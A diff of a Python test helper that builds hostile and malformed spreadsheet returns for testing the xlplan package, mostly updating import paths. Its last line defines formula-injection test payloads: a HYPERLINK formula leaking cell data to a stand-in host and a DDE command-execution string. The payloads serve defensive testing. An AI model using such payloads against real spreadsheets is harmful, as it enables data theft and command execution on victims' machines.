@@ -1,8 +1,8 @@
 """Build hostile and malformed returns in a test's tmp_path (nothing large is committed).
 
 Each builder writes one file (or link) into `folder` and returns its path. Cases that need a real
-return start from a template made by `xlplan.templates.write_templates`, filled in by
-`xlplan.fill.fill_return`, and are then mutated by rewriting parts of the zip.
+return start from a template made by `xlplan.templates.build.write_templates`, filled in by
+`xlplan.demo.fill.fill_return`, and are then mutated by rewriting parts of the zip.
 
 `hostile_quarter(root)` builds a plan with one service per content case, its templates and good
 returns, and `build_all(folder, q)` fills one returns folder with every case; CASES says what each
@@ -25,12 +25,12 @@ from typing import Callable
 import openpyxl
 
 from builders import action, build_plan, measure
-from xlplan import layout
-from xlplan.fill import fill_return
+from xlplan.contract import layout
+from xlplan.demo.fill import fill_return
 from xlplan.periods import Period
-from xlplan.plan import read_plan
-from xlplan.safety_ole import build_compound_file
-from xlplan.templates import write_templates
+from xlplan.plan.model import read_plan
+from xlplan.safety.ole import build_compound_file
+from xlplan.templates.build import write_templates
 
 Q2 = Period.parse("2023-24-Q2")
 INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "=cmd|' /C calc'!A0",
